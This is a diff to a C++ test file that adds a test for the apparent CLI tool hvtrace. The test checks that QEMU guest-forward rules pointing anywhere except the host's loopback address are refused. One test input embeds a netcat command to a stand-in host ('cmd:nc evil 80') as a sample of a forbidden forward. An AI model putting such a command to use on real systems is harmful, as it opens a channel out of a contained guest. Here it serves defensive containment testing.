@@ -47,6 +47,14 @@ TEST(CliUsage, OutOfRangeAndMissingValuesNameTheOption) {
   expect_one_line_user_error(hvtrace({"events", "-c"}), "option --count needs a value");
 }
 
+TEST(CliUsage, GuestForwardToAnythingButTheHostsLoopbackIsRefused) {
+  // Checked before any image is loaded or QEMU started (containment: guestfwd.hpp).
+  expect_one_line_user_error(hvtrace({"vm", "up", "--name", "cli-gf", "--guestfwd", "tcp:10.0.2.100:80-10.0.0.1:80"}),
+                             "is not a loopback address");
+  expect_one_line_user_error(hvtrace({"run", "--guestfwd", "tcp:10.0.2.100:80-cmd:nc evil 80"}), "loopback");
+  expect_one_line_user_error(hvtrace({"vm", "up", "--guestfwd", "tcp:10.0.2.2:80-127.0.0.1:8080"}), "is taken");
+}
+
 TEST(CliUsage, MissingCommandIsAUserError) {
   expect_one_line_user_error(hvtrace({}), "a command is required");
   expect_one_line_user_error(hvtrace({"vm", "exec"}), "(try hvtrace vm exec --help)");
